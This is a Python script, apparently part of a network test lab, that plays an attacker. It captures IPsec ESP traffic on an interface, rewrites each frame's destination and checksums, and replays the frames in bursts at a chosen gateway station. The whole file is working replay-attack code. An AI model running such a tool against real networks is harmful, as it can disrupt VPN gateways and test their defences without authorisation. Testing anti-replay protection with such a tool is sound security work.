"""An attacker on the untrusted network: record what peers send to gateways, then send it again.

`replay SECONDS PAUSE MAC ADDRESS`: record for SECONDS, wait for PAUSE seconds, then replay for one
second to the station MAC and the IP address ADDRESS. It prints the numbers of packets.
"""

import json
import socket
import struct
import sys
import time

ALL = 3  # ETH_P_ALL
PORT = struct.pack("!H", 4500)
HEADERS = 14 + 20 + 8
BURST = 60


def is_esp(frame: bytes) -> bool:
    """Tell whether a frame has ESP, bare or in UDP (RFC 3948: IKE starts with four zero bytes)."""
    if frame[12:14] != b"\x08\x00":
        return False
    if frame[23] == socket.IPPROTO_ESP:
        return True
    udp = frame[23] == socket.IPPROTO_UDP
    return udp and frame[36:38] == PORT and len(frame) > 80 and frame[HEADERS:][:4] != bytes(4)


def redirected(frame: bytes, station: bytes, address: bytes) -> bytes:
    """Return a frame with a new destination and a correct IP checksum, and no UDP checksum."""
    header = frame[14:24] + bytes(2) + frame[26:30] + address
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    total = ~(total + (total >> 16)) & 0xFFFF
    header = header[:10] + struct.pack("!H", total) + header[12:]
    head = station + frame[6:14] + header
    if frame[23] == socket.IPPROTO_ESP:
        return head + frame[34:]
    return head + frame[34:40] + bytes(2) + frame[42:]


def replay(seconds: float, pause: float, mac: str, address: str) -> dict[str, int]:
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL))
    tap.bind(("gpeers", ALL))
    tap.settimeout(0.1)
    frames: dict[bytes, None] = {}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            frame, (_, _, kind, *_) = tap.recvfrom(4096)
        except TimeoutError:
            continue
        if kind != socket.PACKET_OUTGOING and is_esp(frame):
            frames[frame] = None
    time.sleep(pause)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("br0", ALL))
    station, target = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(address)
    again = [redirected(frame, station, target) for frame in frames]
    sent = 0
    end = time.monotonic() + 1.0
    while time.monotonic() < end and again:
        for frame in again[sent % len(again) :][:BURST]:
            out.send(frame)
            sent += 1
        time.sleep(0.002)
    return {"recorded": len(frames), "sent": sent}


if __name__ == "__main__":
    print(json.dumps(replay(float(sys.argv[1]), float(sys.argv[2]), *sys.argv[3:5])))
